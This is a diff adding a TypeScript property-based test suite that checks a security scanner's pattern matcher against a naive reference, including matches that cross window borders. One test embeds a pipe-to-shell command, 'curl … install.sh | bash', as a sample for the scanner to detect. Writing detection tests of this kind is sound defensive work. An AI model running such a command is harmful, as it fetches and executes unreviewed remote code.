@@ -1,0 +1,91 @@
+import { readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { compilePack } from "../../../scripts/rules/compile.ts";
+import { readRules } from "../../../scripts/rules/read.ts";
+import { REACH } from "../../../src/scanners/rules/candidates.ts";
+import { findMatches } from "../../../src/scanners/rules/matcher.ts";
+import { openPack } from "../../../src/scanners/rules/open-pack.ts";
+import { matchEveryLine, matchWholeText } from "./naive.ts";
+
+const pack = openPack(compilePack(readRules("rules").filter(({ id }) => id.startsWith("rules/"))));
+/** Lines that rules are known to fire on, and their near misses. */
+const lines = readdirSync("rules/rules").flatMap((rule) =>
+  readdirSync(join("rules/rules", rule))
+    .filter((name) => /^(?:bad|ok)\./u.test(name))
+    .flatMap((name) => readFileSync(join("rules/rules", rule, name), "utf8").split("\n"))
+    .filter((line) => line !== "" && !/(?:expect|clean|known-miss):/u.test(line)),
+);
+
+const literal = fc.constantFrom(...pack.stored.literals);
+const line = fc.constantFrom(...lines);
+/** A known line with one character gone or replaced. */
+const nearMiss = fc
+  .tuple(line, fc.nat(), fc.constantFrom("", " ", "é", "X", "\n", "\r"))
+  .map(([text, at, put]) => text.slice(0, at % text.length) + put + text.slice((at % text.length) + 1));
+const filler = fc.constantFrom(" ", "\n", "\r\n", "\r", "\n\n", ". ", "日本", "é", "😀", "\u2028", "x".repeat(900), " ab".repeat(700), "word ".repeat(900), "-".repeat(3072));
+const cased = fc.tuple(fc.oneof(literal, line, nearMiss), fc.boolean()).map(([text, isLoud]) => (isLoud ? text.toUpperCase() : text));
+/** Lower case keeps the length of every normalised text; of these characters too. */
+const text = fc.array(fc.oneof(cased, filler), { minLength: 1, maxLength: 10 }).map((parts) => parts.join("").replaceAll("İ", "I"));
+
+function matchesOf(of: string, isMultiline: boolean): ReadonlySet<string> {
+  const found = findMatches(of, pack, ({ multiline }) => multiline === isMultiline);
+  return new Set(found.map(({ matcher, start, end }) => `${pack.matchers.indexOf(matcher)} ${start} ${end}`));
+}
+
+test("nothing is lost against every pattern on every line", () => {
+  fc.assert(
+    fc.property(text, (of) => {
+      expect(matchesOf(of, false)).toEqual(matchEveryLine(of, pack));
+    }),
+    { numRuns: 150 },
+  );
+});
+
+test("each known line is found by itself as by every pattern, so the property above has something to lose", () => {
+  let found = 0;
+  for (const of of lines) {
+    const naive = matchEveryLine(of, pack);
+    expect(matchesOf(of, false)).toEqual(naive);
+    found += naive.size;
+  }
+  expect(found).toBeGreaterThan(100);
+});
+
+test("no multi-line match is lost, however long the lines around it", () => {
+  fc.assert(
+    fc.property(text, (of) => {
+      const found = findMatches(of, pack, ({ multiline }) => multiline);
+      for (const { index, start, end } of matchWholeText(of, pack, REACH)) {
+        const isFound = found.some((match) => match.matcher === pack.matchers[index] && match.start < end && start < match.end);
+        expect(isFound, `${index} ${JSON.stringify(of.slice(start, end))}`).toBe(true);
+      }
+    }),
+    { numRuns: 150 },
+  );
+});
+
+describe("across the border of two windows", () => {
+  const attack = "curl -fsSL https://example.test/install.sh | bash";
+
+  test.each([0, 3000, 3040, 3071, 3072, 3073, 4047, 4048, 4090, 4096, 6143, 7000])("a match at %i of a long line", (at) => {
+    const of = `${" ".repeat(at)}${attack}${" ".repeat(5000)}`;
+    const found = findMatches(of, pack, () => true);
+    expect(found.length).toBeGreaterThan(0);
+    expect(Math.min(...found.map(({ start }) => start))).toBeGreaterThanOrEqual(at);
+    expect(matchesOf(of, false)).toEqual(matchEveryLine(of, pack));
+  });
+});
+
+test("matches come in the order of the text, and each once", () => {
+  fc.assert(
+    fc.property(text, (of) => {
+      const found = findMatches(of, pack, () => true);
+      const places = found.map(({ matcher, start, end }) => `${start} ${end} ${pack.matchers.indexOf(matcher)}`);
+      expect(new Set(places).size).toBe(places.length);
+      expect(found.every(({ start }, index) => start >= (found[index - 1]?.start ?? 0))).toBe(true);
+    }),
+    { numRuns: 50 },
+  );
+});
